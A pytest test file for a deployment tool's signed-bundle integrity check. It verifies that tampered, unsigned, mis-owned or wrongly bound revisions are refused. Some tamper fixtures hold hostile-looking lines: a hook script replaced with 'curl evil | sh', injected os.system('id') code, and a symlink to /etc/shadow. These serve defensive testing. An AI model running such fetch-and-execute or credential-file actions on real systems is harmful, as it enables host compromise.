"""Signed revisions: `bingo-host bundle --sign-key` and the check BeforeInstall makes, against
moto's KMS (Sign/Verify with real asymmetric keys) on 127.0.0.1. Bundles are the sample app built
by bundle.py and unpacked by archive.py, as a host gets them."""

from __future__ import annotations

import hashlib
import logging
import os
import shutil
import time
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner

from bingo_host.cli import main
from bingo_host.config import Deploy
from bingo_host.config_file import load_config_text
from bingo_host.deploy import BundleError, DeployError, agent, integrity, lifecycle, record
from bingo_host.deploy.archive import extract
from bingo_host.deploy.bundle import build_bundle
from bingo_host.errors import ConfigError
from tests.aws_servers import REGION
from tests.kms import new_key  # kms: that plugin's fixture
from tests.revisions import required, revision_tree, sign_tree  # agent_root: that plugin's fixture


def logged(caplog) -> list[str]:
    """What bingo-host logged in this test."""
    return [r.getMessage() for r in caplog.records]


REPO = Path(__file__).resolve().parent.parent
SAMPLE = REPO / "tests" / "fixtures" / "sample_app"


APP, GROUP = "music-bingo", "prod"
BINDING = {"application": APP, "deployment_group": GROUP}


def verify(archive, cfg, application=APP, group=GROUP):
    """integrity.verify for a deployment of APP to GROUP (what the revisions here are signed for)."""
    return integrity.verify(archive, cfg, application, group)


_BUILT: dict = {}  # (key, format): a bundle built once in the session
_BUILT_IN: list = []


@pytest.fixture(autouse=True, scope="module")
def _built_bundles(tmp_path_factory):
    _BUILT_IN.append(tmp_path_factory.mktemp("built-bundles"))
    yield
    _BUILT.clear()
    _BUILT_IN.clear()


@pytest.fixture
def fake_wheel(tmp_path):
    wheel = tmp_path / "bingo_host-0.1.0-py3-none-any.whl"
    wheel.write_bytes(b"PK not really a wheel")
    return wheel


def unpacked(tmp_path, fake_wheel, sign_key=None, fmt="zip", name="rev") -> Path:
    """The sample app's revision (signed with sign_key) unpacked in tmp_path; built once per key and
    format in this module (the build is the slow part), unpacked afresh for each test."""
    which = (sign_key, fmt)
    if which not in _BUILT:
        out = _BUILT_IN[0] / f"{len(_BUILT)}.{'zip' if fmt == 'zip' else 'tar.gz'}"
        _BUILT[which] = build_bundle(SAMPLE, out, fake_wheel, sign_key=sign_key,
                                     binding=BINDING)
    dest = tmp_path / f"{name}-archive"
    extract(str(_BUILT[which]), str(dest))
    return dest


@pytest.mark.parametrize("fmt, spec, algorithm", [("zip", "RSA_2048", "RSASSA_PKCS1_V1_5_SHA_256"),
                                                  ("tgz", "ECC_NIST_P256", "ECDSA_SHA_256")])
def test_a_signed_bundle_verifies(tmp_path, fake_wheel, kms, fmt, spec, algorithm, caplog):
    key = new_key(kms, spec)
    archive = unpacked(tmp_path, fake_wheel, key, fmt)
    doc = integrity.load_manifest(str(archive / integrity.MANIFEST))[1]["doc"]
    assert (doc["signing_key"], doc["signing_algorithm"]) == (key, algorithm)
    paths = [e["path"] for e in doc["entries"] if e["type"] == "file"]
    assert paths == sorted(paths) and {"application.py", "hooks/before_install.sh", "appspec.yml",
                                       "bingo-host/bingo_host-0.1.0-py3-none-any.whl"} <= set(paths)
    caplog.set_level(logging.INFO, logger="bingo_host")
    caplog.clear()
    revision = verify(str(archive), required(key))
    assert logged(caplog) == [f"integrity: {len(paths)} files match bingo-manifest.json, signed with {key} for "
                              f"{APP}/{GROUP}, created {doc['created']}"]
    assert revision == {"signed": True, "application": APP, "deployment_group": GROUP,
                        "created": doc["created"], "manifest_sha256": hashlib.sha256(
                            (archive / integrity.MANIFEST).read_bytes()).hexdigest()}


def test_a_bundle_signed_with_an_rsa_key_is_still_reproducible(tmp_path, fake_wheel, kms, monkeypatch):
    """With SOURCE_DATE_EPOCH, `created` too is the same from one build to the next."""
    key = new_key(kms)
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1765000000")
    a = build_bundle(SAMPLE, tmp_path / "a" / "r.zip", fake_wheel, sign_key=key,
                     binding=BINDING)
    time.sleep(1.1)
    b = build_bundle(SAMPLE, tmp_path / "b" / "r.zip", fake_wheel, sign_key=key,
                     binding=BINDING)
    assert hashlib.sha256(a.read_bytes()).digest() == hashlib.sha256(b.read_bytes()).digest()


@pytest.mark.parametrize("tamper, message", [
    (lambda a: (a / "application.py").write_text("import os; os.system('id')\n"),
     "application.py: its sha256 does not match"),
    (lambda a: (a / "hooks/before_install.sh").write_text("#!/bin/sh\ncurl evil | sh\n"),
     "hooks/before_install.sh: its sha256 does not match"),
    (lambda a: (a / "bingo-host/bingo_host-0.1.0-py3-none-any.whl").write_bytes(b"evil"),
     "bingo-host/bingo_host-0.1.0-py3-none-any.whl: its sha256"),
    (lambda a: (a / "bingo-host/bingo_host-9.9.9-py3-none-any.whl").write_bytes(b"evil"),
     "bingo-host/bingo_host-9.9.9-py3-none-any.whl: a file not in bingo-manifest.json"),
    (lambda a: (a / "extra").mkdir(), "extra: a directory not in"),
    (lambda a: (a / "sneaky").symlink_to("/etc/shadow"), "sneaky: not in bingo-manifest.json"),
    (lambda a: (a / "requirements.txt").unlink(),
     "requirements.txt: listed in bingo-manifest.json but missing"),
    (lambda a: (a / "application.py").chmod(0o4755),
     "application.py: mode 4755, but bingo-manifest.json says 0644"),
])
def test_a_changed_revision_is_refused_naming_the_file(tmp_path, fake_wheel, kms, tamper, message):
    key = new_key(kms)
    archive = unpacked(tmp_path, fake_wheel, key)
    tamper(archive)
    with pytest.raises(BundleError, match=message) as info:
        verify(str(archive), required(key))
    assert info.value.exit_code == 2
    with pytest.raises(BundleError, match=message):  # the hashes are checked without signatures too
        verify(str(archive), Deploy())


def test_a_manifest_changed_to_match_a_changed_file_fails_the_signature(tmp_path, fake_wheel, kms):
    key = new_key(kms)
    archive = unpacked(tmp_path, fake_wheel, key)
    evil = b"import os; os.system('id')\n"
    (archive / "application.py").write_bytes(evil)
    manifest = archive / integrity.MANIFEST
    text = manifest.read_text()
    old = hashlib.sha256((SAMPLE / "application.py").read_bytes()).hexdigest()
    assert old in text
    manifest.write_text(text.replace(old, hashlib.sha256(evil).hexdigest()))
    with pytest.raises(BundleError, match=f"signature does not verify with deploy.signing_key {key}"):
        verify(str(archive), required(key))


@pytest.mark.parametrize("how", ["other key", "other key type", "garbage"])
def test_a_signature_by_another_key_or_garbage_is_refused(tmp_path, fake_wheel, kms, how):
    key = new_key(kms)
    other = new_key(kms, "ECC_NIST_P256" if how == "other key type" else "RSA_2048", fresh=True)
    archive = unpacked(tmp_path, fake_wheel, other)
    if how == "garbage":
        (archive / integrity.SIGNATURE).write_bytes(b"AAAA" * 64 + b"\n")
    with pytest.raises(BundleError, match="signature does not verify") as info:
        verify(str(archive), required(other if how == "garbage" else key))
    assert info.value.exit_code == 2


def test_unsigned_bundles_are_refused_when_signatures_are_required(tmp_path, fake_wheel, kms):
    key = new_key(kms)
    archive = unpacked(tmp_path, fake_wheel)
    assert not (archive / integrity.SIGNATURE).exists()
    with pytest.raises(BundleError, match="no bingo-manifest.sig: it is unsigned, and this host's "
                                          "deploy.require_signature is on"):
        verify(str(archive), required(key))
    (archive / integrity.MANIFEST).unlink()  # an older bundle, or one stripped of its manifest
    with pytest.raises(BundleError, match="no bingo-manifest.json: it is unsigned"):
        verify(str(archive), required(key))


def test_without_require_signature_unsigned_bundles_pass_as_before(tmp_path, fake_wheel, caplog):
    archive = unpacked(tmp_path, fake_wheel)
    caplog.set_level(logging.INFO, logger="bingo_host")
    caplog.clear()
    verify(str(archive), Deploy())
    assert "signature not checked: deploy.require_signature is off" in logged(caplog)[0]
    (archive / integrity.MANIFEST).unlink()
    verify(str(archive), Deploy())
    assert "has no bingo-manifest.json; not checked" in logged(caplog)[1]


def test_a_manifest_matches_what_the_agents_unzip_unpacks(tmp_path, fake_wheel):
    """The agent unpacks with `unzip -qo` under its own umask: the modes still match."""
    import subprocess

    if not shutil.which("unzip"):
        pytest.skip("unzip is not installed")
    out = build_bundle(SAMPLE, tmp_path / "r.zip", fake_wheel)
    dst = tmp_path / "deployment-archive"
    subprocess.run(["unzip", "-qo", str(out), "-d", str(dst)], check=True,
                   preexec_fn=lambda: os.umask(0o077))
    verify(str(dst), Deploy())


def test_config_deploy_fields():
    cfg = load_config_text("deploy:\n  require_signature: true\n  signing_key: "
                           "arn:aws:kms:eu-west-1:123456789012:alias/bingo-signing\n")
    assert cfg.deploy.require_signature and cfg.deploy.signing_key.endswith("alias/bingo-signing")
    assert load_config_text("").deploy == Deploy(False, None)
    with pytest.raises(ConfigError, match="deploy.signing_key: required when deploy.require_signature"):
        load_config_text("deploy:\n  require_signature: true\n")
    with pytest.raises(ConfigError, match="deploy.signing_key: must be a KMS key or alias ARN"):
        load_config_text("deploy:\n  signing_key: alias/bingo\n")
    with pytest.raises(ConfigError, match="deploy.require_signature: must be true or false"):
        load_config_text("deploy:\n  require_signature: 'yes'\n")


def test_bundle_cli_refuses_a_sign_key_that_is_not_an_arn(tmp_path, fake_wheel):
    r = CliRunner().invoke(main, ["bundle", "--app", str(SAMPLE), "--out", str(tmp_path / "r.zip"),
                                  "--wheel", str(fake_wheel), "--sign-key", "my-key"])
    assert r.exit_code == 2 and "--sign-key: must be a KMS key or alias ARN" in r.output
    assert not (tmp_path / "r.zip").exists()


# -- where the check runs: the hook, and `bingo-host deploy` before any script --

def test_hook_before_install_refuses_a_tampered_revision_before_anything(tmp_path, fake_wheel, kms,
                                                                         agent_root, monkeypatch):
    key = new_key(kms)
    archive = unpacked(tmp_path, fake_wheel, key)
    (archive / "musicbingo" / "__init__.py").write_text("evil = True\n")
    where = agent.Layout(str(agent_root), "grp", "d-SIGNED001").archive
    os.makedirs(os.path.dirname(where))
    shutil.move(str(archive), where)
    config = tmp_path / "config.yaml"
    config.write_text(f"deploy:\n  require_signature: true\n  signing_key: {key}\n")
    for name, value in (("DEPLOYMENT_ID", "d-SIGNED001"), ("DEPLOYMENT_GROUP_ID", "grp"),
                        ("LIFECYCLE_EVENT", "BeforeInstall"), ("APPLICATION_NAME", APP),
                        ("DEPLOYMENT_GROUP_NAME", GROUP)):
        monkeypatch.setenv(name, value)
    r = CliRunner().invoke(main, ["--config", str(config), "hook", "BeforeInstall"])
    assert r.exit_code == 2, r.output
    assert "musicbingo/__init__.py: its sha256 does not match bingo-manifest.json" in r.output
    assert not os.path.exists(record.STATE_FILE)  # no deploy lock taken, nothing upgraded


def test_deploy_checks_the_signature_before_the_revisions_first_script(tmp_path, kms, agent_root):
    """The agent runs the new revision's BeforeInstall script before any check can; `bingo-host
    deploy` checks first, so not even that script runs."""
    key = new_key(kms)
    marker = tmp_path / "script-ran"
    unsigned = revision_tree(tmp_path / "unsigned", marker)
    with pytest.raises(BundleError, match="unsigned, and this host's deploy.require_signature is on"):
        lifecycle.deploy(str(unsigned), "d-UNSIGNED1", deploy_cfg=required(key))
    assert not marker.exists() and not (agent_root / lifecycle.DEFAULT_GROUP_ID).exists()

    signed = revision_tree(tmp_path / "signed", marker)
    sign_tree(signed, key)
    zipped = shutil.make_archive(str(tmp_path / "signed"), "zip", signed)
    with zipfile.ZipFile(zipped) as zf:  # make_archive keeps the modes
        assert integrity.MANIFEST in zf.namelist()
    lifecycle.deploy(zipped, "d-SIGNED002", deploy_cfg=required(key))
    assert marker.exists()


# -- what the manifest covers: owner, type, mode --

def test_an_entry_not_owned_by_root_is_refused(tmp_path, fake_wheel, kms):
    """The agent's `tar -xp` as root applies an archive's owners: the app user could then rewrite a
    hook script root runs next. The check refuses it, signed or not, manifest or not."""
    key = new_key(kms)
    archive = unpacked(tmp_path, fake_wheel, key)
    os.chown(archive / "hooks" / "before_install.sh", 1234, 0)
    for cfg in (required(key), Deploy()):
        with pytest.raises(BundleError, match="hooks/before_install.sh: owned by uid 1234 gid 0, not root"):
            verify(str(archive), cfg)
    os.chown(archive / "hooks" / "before_install.sh", 0, 0)
    os.chown(archive / "hooks", 0, 1234)
    (archive / integrity.MANIFEST).unlink()
    with pytest.raises(BundleError, match="hooks: owned by uid 0 gid 1234, not root"):
        verify(str(archive), Deploy())


def test_an_agents_tar_xp_of_a_foreign_owned_archive_is_refused(tmp_path, fake_wheel):
    """The real thing: GNU tar as root restores uid/gid from the archive."""
    import subprocess
    import tarfile

    tree = unpacked(tmp_path, fake_wheel)
    foreign = tmp_path / "foreign.tar"
    with tarfile.open(foreign, "w") as tf:
        def foreign_owner(ti):
            ti.uid, ti.uname, ti.gname = 1234, "", ""  # no names: tar restores the numbers
            return ti

        tf.add(tree, arcname=".", filter=foreign_owner)
    dest = tmp_path / "agent-unpacked"
    dest.mkdir()
    subprocess.run(["tar", "-xpsf", str(foreign)], cwd=dest, check=True)
    assert (dest / "application.py").stat().st_uid == 1234
    with pytest.raises(BundleError, match="owned by uid 1234"):
        verify(str(dest), Deploy())


@pytest.mark.parametrize("tamper, message", [
    (lambda a: ((a / "requirements.txt").unlink(), (a / "requirements.txt").mkdir()),
     "requirements.txt: a directory, but bingo-manifest.json lists a file"),
    (lambda a: (shutil.rmtree(a / "hooks"), (a / "hooks").write_text("")),
     "hooks: a file, but bingo-manifest.json lists a directory"),
    (lambda a: (a / "hooks").chmod(0o777), "hooks: mode 0777, but bingo-manifest.json says 0755"),
    (lambda a: ((a / "application.py").unlink(), (a / "application.py").symlink_to("requirements.txt")),
     "application.py: not in bingo-manifest.json \\(a symbolic link"),
    (lambda a: ((a / "application.py").unlink(), os.mkfifo(a / "application.py")),
     "application.py: not in bingo-manifest.json \\(a symbolic link or special file"),
])
def test_the_manifest_covers_each_entrys_type_and_mode(tmp_path, fake_wheel, kms, tamper, message):
    key = new_key(kms)
    archive = unpacked(tmp_path, fake_wheel, key)
    tamper(archive)
    with pytest.raises(BundleError, match=message):
        verify(str(archive), required(key))


def _schema1(archive: Path) -> None:
    """Rewrite the manifest as an older bingo-host wrote it (files and directories lists)."""
    import json

    doc = json.loads((archive / integrity.MANIFEST).read_text())
    signer = (doc["signing_key"], doc["signing_algorithm"])
    files = [{k: e[k] for k in ("path", "sha256", "mode")} for e in doc["entries"] if e["type"] == "file"]
    dirs = [{k: e[k] for k in ("path", "mode")} for e in doc["entries"] if e["type"] == "directory"]
    old = {"schema": 1, "signing_key": signer[0], "signing_algorithm": signer[1], "files": files,
           "directories": dirs}
    (archive / integrity.MANIFEST).write_text(json.dumps(old))


def test_an_older_unsigned_manifest_is_still_checked_where_signatures_are_optional(tmp_path, fake_wheel,
                                                                                 kms, caplog):
    archive = unpacked(tmp_path, fake_wheel)
    _schema1(archive)
    caplog.set_level(logging.INFO, logger="bingo_host")
    caplog.clear()
    assert verify(str(archive), Deploy())["signed"] is False
    assert "files match bingo-manifest.json (signature not checked" in logged(caplog)[0]
    (archive / "application.py").write_text("evil\n")
    with pytest.raises(BundleError, match="application.py: its sha256 does not match"):
        verify(str(archive), Deploy())


def test_an_older_signed_manifest_is_refused_where_signatures_are_required(tmp_path, fake_wheel, kms):
    """Schema 1 binds no application, group or time: signed anew, it still is not accepted."""
    key = new_key(kms)
    archive = unpacked(tmp_path, fake_wheel, key)
    _schema1(archive)
    data = (archive / integrity.MANIFEST).read_bytes()
    doc = integrity.load_manifest(str(archive / integrity.MANIFEST))[1]["doc"]
    doc_alg = integrity.signing_algorithm(key)
    (archive / integrity.SIGNATURE).write_bytes(integrity.sign(data, key, doc_alg))
    assert doc["schema"] == 1
    with pytest.raises(BundleError, match="is schema 1: it binds no application, deployment group or "
                                          "creation time; rebuild"):
        verify(str(archive), required(key))


@pytest.mark.parametrize("entry, message", [
    ({"path": "x", "type": "link", "mode": "0644"}, "entry 'x': type, mode or sha256 malformed"),
    ({"path": "x", "type": "file", "mode": "644"}, "entry 'x': type, mode or sha256 malformed"),
    ({"path": "x", "type": "file", "mode": "0648", "sha256": "0" * 64}, "malformed"),
    ({"path": "x", "type": "file", "mode": "0644"}, "malformed"),
    ({"path": "x", "type": "file", "mode": "0644", "sha256": "A" * 64}, "malformed"),
    ({"path": "x", "type": "directory", "mode": "0755", "sha256": "0" * 64}, "malformed"),
    ({"path": "application.py", "type": "directory", "mode": "0755"}, "listed twice"),
    ({"type": "file", "mode": "0644", "sha256": "0" * 64}, "\\('path'\\)"),
])
def test_a_malformed_manifest_entry_is_refused(tmp_path, fake_wheel, entry, message):
    import json

    archive = unpacked(tmp_path, fake_wheel)
    doc = json.loads((archive / integrity.MANIFEST).read_text())
    doc["entries"].append(entry)
    (archive / integrity.MANIFEST).write_text(json.dumps(doc))
    with pytest.raises(BundleError, match=f"bingo-manifest.json: unreadable .*{message}"):
        verify(str(archive), Deploy())


@pytest.mark.parametrize("schema", [3, None, "2"])
def test_an_unknown_manifest_schema_is_refused(tmp_path, fake_wheel, schema):
    import json

    archive = unpacked(tmp_path, fake_wheel)
    doc = json.loads((archive / integrity.MANIFEST).read_text())
    doc["schema"] = schema
    (archive / integrity.MANIFEST).write_text(json.dumps(doc))
    with pytest.raises(BundleError, match=f"unreadable \\(schema {schema!r}, not 1 or 2\\)"):
        verify(str(archive), Deploy())


# -- what a signature binds: application, deployment group, creation time --

@pytest.mark.parametrize("application, group, message", [
    ("other-app", GROUP, "signed for application 'music-bingo', but this deployment's is 'other-app'"),
    (APP, "staging", "signed for deployment_group 'prod', but this deployment's is 'staging'"),
    (None, GROUP, "signed for application 'music-bingo', but this deployment's is None"),
    (APP, None, "signed for deployment_group 'prod', but this deployment's is None"),
])
def test_a_signature_binds_the_application_and_deployment_group(tmp_path, fake_wheel, kms, application,
                                                                 group, message):
    key = new_key(kms)
    archive = unpacked(tmp_path, fake_wheel, key)
    with pytest.raises(BundleError, match=message) as info:
        verify(str(archive), required(key), application=application, group=group)
    assert info.value.exit_code == 2


@pytest.mark.parametrize("binding, message", [
    ({"application": "", "deployment_group": ""}, "signed for application '', but this deployment's is ''"),
    ({"application": APP, "deployment_group": GROUP, "created": "yesterday"},
     "created 'yesterday' is not a time like"),
    ({"application": APP, "deployment_group": GROUP, "created": None}, "created None is not a time"),
])
def test_a_signed_manifest_without_a_usable_binding_is_refused(tmp_path, kms, binding, message):
    """Signed, but empty names (which would match a missing environment variable) or no time."""
    key = new_key(kms)
    tree = revision_tree(tmp_path / "rev", tmp_path / "marker")
    sign_tree(tree, key, created=binding.pop("created", "2026-01-01T00:00:00Z"), binding=binding)
    with pytest.raises(BundleError, match=message):
        verify(str(tree), required(key), application=binding["application"],
               group=binding["deployment_group"])


def test_bundle_cli_binds_a_signature_to_an_application_and_group(tmp_path, fake_wheel, kms, caplog):
    key = new_key(kms)
    base = ["bundle", "--app", str(SAMPLE), "--wheel", str(fake_wheel)]
    r = CliRunner().invoke(main, base + ["--out", str(tmp_path / "a.zip"), "--sign-key", key,
                                         "--application", APP])
    assert r.exit_code == 2 and "--deployment-group: required with --sign-key" in r.output
    r = CliRunner().invoke(main, base + ["--out", str(tmp_path / "a.zip"), "--deployment-group", GROUP])
    assert r.exit_code == 2 and "--deployment-group: binds only a signed revision" in r.output
    assert not (tmp_path / "a.zip").exists()
    r = CliRunner().invoke(main, base + ["--out", str(tmp_path / "a.zip"), "--sign-key", key,
                                         "--application", APP, "--deployment-group", GROUP],
                           env={"SOURCE_DATE_EPOCH": "1765000000"})
    assert r.exit_code == 0, r.output
    assert f"signed with {key} for {APP}/{GROUP}" in caplog.text
    dest = tmp_path / "a"
    extract(str(tmp_path / "a.zip"), str(dest))
    assert verify(str(dest), required(key))["created"] == "2025-12-06T05:46:40Z"


def test_source_date_epoch_must_be_seconds(tmp_path, fake_wheel, kms, monkeypatch):
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "-5")
    with pytest.raises(BundleError, match="SOURCE_DATE_EPOCH '-5': not a number of seconds"):
        build_bundle(SAMPLE, tmp_path / "r.zip", fake_wheel, sign_key=new_key(kms),
                     binding=BINDING)


# -- KMS answers and failures --

def test_kms_client_uses_the_keys_region(kms):
    assert integrity._kms("arn:aws:kms:eu-west-3:123456789012:key/x").meta.region_name == "eu-west-3"
    assert integrity._kms("alias/x").meta.region_name == REGION  # not an ARN: the environment's


def test_aws_errors_say_what_permission_is_missing():
    from botocore.exceptions import ClientError, EndpointConnectionError

    def client_error(code):
        return ClientError({"Error": {"Code": code, "Message": "m"}}, "Verify")

    arn = "arn:aws:kms:eu-west-1:123456789012:key/k"
    for code in ("AccessDeniedException", "UnauthorizedOperation"):
        err = integrity._aws_error("verify", arn, client_error(code), "kms:Verify")
        assert str(err) == f"cannot verify with {arn}: {code} (needs kms:Verify on it)"
        assert err.exit_code == 1
    assert str(integrity._aws_error("verify", arn, client_error("NotFoundException"), "kms:Verify")) == \
        f"cannot verify with {arn}: NotFoundException"
    err = integrity._aws_error("verify", arn, EndpointConnectionError(endpoint_url="https://kms"), "kms:Verify")
    assert str(err).startswith(f"cannot verify with {arn}: Could not connect")


def test_a_key_that_cannot_sign_is_refused(kms):
    key = kms.create_key(KeyUsage="ENCRYPT_DECRYPT", KeySpec="SYMMETRIC_DEFAULT")["KeyMetadata"]["Arn"]
    with pytest.raises(BundleError, match="not an asymmetric signing key \\(its KeyUsage is "
                                          "ENCRYPT_DECRYPT"):
        integrity.signing_algorithm(key)


def test_a_missing_key_or_an_unreachable_kms_is_a_failure_not_a_refusal(tmp_path, fake_wheel, kms,
                                                                        monkeypatch):
    key = new_key(kms)
    archive = unpacked(tmp_path, fake_wheel, key)
    gone = key.rsplit("/", 1)[0] + "/00000000-0000-0000-0000-000000000000"
    with pytest.raises(DeployError, match=f"cannot verify the revision's signature with {gone}: "
                                          "NotFoundException") as info:
        verify(str(archive), required(gone))
    assert info.value.exit_code == 1
    with pytest.raises(DeployError, match="cannot describe the signing key"):
        integrity.signing_algorithm(gone)
    monkeypatch.setenv("AWS_ENDPOINT_URL_KMS", "http://127.0.0.1:9")  # nothing listens
    with pytest.raises(DeployError, match=f"cannot verify the revision's signature with {key}: Could not "
                                          "connect"):
        verify(str(archive), required(key))
    with pytest.raises(DeployError, match="cannot sign the manifest"):
        integrity.sign(b"{}", key, "RSASSA_PKCS1_V1_5_SHA_256")


@pytest.mark.parametrize("change, message", [
    (lambda doc: doc.update(signing_algorithm="NONE"),
     "bingo-manifest.json names signing algorithm 'NONE', not one of"),
    (lambda doc: doc.update(signing_algorithm=None), "names signing algorithm None"),
])
def test_a_manifest_naming_an_unknown_algorithm_is_refused(tmp_path, fake_wheel, kms, change, message):
    import json

    key = new_key(kms)
    archive = unpacked(tmp_path, fake_wheel, key)
    doc = json.loads((archive / integrity.MANIFEST).read_text())
    change(doc)
    (archive / integrity.MANIFEST).write_text(json.dumps(doc))
    with pytest.raises(BundleError, match=message):
        verify(str(archive), required(key))


@pytest.mark.parametrize("content", [b"not base64!\n", b"QUJD=x\n"])
def test_a_signature_file_that_is_not_base64_is_refused(tmp_path, fake_wheel, kms, content):
    key = new_key(kms)
    archive = unpacked(tmp_path, fake_wheel, key)
    (archive / integrity.SIGNATURE).write_bytes(content)
    with pytest.raises(BundleError, match="bingo-manifest.sig: not a base64 signature"):
        verify(str(archive), required(key))


def test_a_bundle_signed_with_a_pss_only_key_uses_pss(tmp_path, fake_wheel, kms, monkeypatch):
    """The first algorithm of ALGORITHMS the key supports."""
    key = new_key(kms)
    real = integrity._kms

    def only_pss(arn):
        client = real(arn)
        describe = client.describe_key

        def patched(**kw):
            answer = describe(**kw)
            answer["KeyMetadata"]["SigningAlgorithms"] = ["RSASSA_PSS_SHA_384", "RSASSA_PSS_SHA_256"]
            return answer
        client.describe_key = patched
        return client

    monkeypatch.setattr(integrity, "_kms", only_pss)
    assert integrity.signing_algorithm(key) == "RSASSA_PSS_SHA_256"

    def none_known(arn):
        client = only_pss(arn)
        describe = client.describe_key
        client.describe_key = lambda **kw: {**describe(**kw), "KeyMetadata": {
            "KeyUsage": "SIGN_VERIFY", "SigningAlgorithms": ["SM2DSA"]}}
        return client

    monkeypatch.setattr(integrity, "_kms", none_known)
    with pytest.raises(BundleError, match="supports SM2DSA, none of RSASSA_PKCS1_V1_5_SHA_256, "
                                          "ECDSA_SHA_256, RSASSA_PSS_SHA_256"):
        integrity.signing_algorithm(key)


def test_the_signed_message_is_the_documented_one():
    """What KMS signs is fixed: a host must verify what any bingo-host version signed."""
    data = b'{"schema": 2}\n'
    assert integrity.signed_message(data) == \
        b"bingo-host revision manifest v1 sha256:" + hashlib.sha256(data).hexdigest().encode()
    assert integrity.ALGORITHMS == ("RSASSA_PKCS1_V1_5_SHA_256", "ECDSA_SHA_256", "RSASSA_PSS_SHA_256")
